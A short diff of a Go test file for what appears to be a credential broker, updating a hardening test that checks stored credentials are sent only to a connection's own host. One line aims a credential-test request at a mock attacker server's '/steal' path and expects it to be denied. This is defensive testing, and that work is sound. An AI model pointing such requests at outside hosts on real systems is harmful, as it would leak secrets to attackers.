@@ -103,9 +103,9 @@ func TestHardeningCanaries(t *testing.T) {
 	})
 
 	t.Run("TestCredential sends only to the connection's own host", func(t *testing.T) {
-		for _, id := range []string{gh.GetConnection().GetId(), h.GetConnection().GetId()} {
-			_, err := admin.TestCredential(t.Context(), &brokerv1.TestCredentialRequest{ConnectionId: id,
-				Method: "GET", Url: attacker.URL + "/steal"}, withToken)
+		for _, c := range []*connectionsv1.Connection{gh.GetConnection(), h.GetConnection()} {
+			_, err := admin.TestCredential(t.Context(), &brokerv1.TestCredentialRequest{ConnectionId: c.GetId(),
+				SecretGeneration: c.GetSecretGeneration(), Method: "GET", Url: attacker.URL + "/steal"}, withToken)
 			wantCode(t, err, codes.PermissionDenied, "not a host")
 			note(err)
 		}
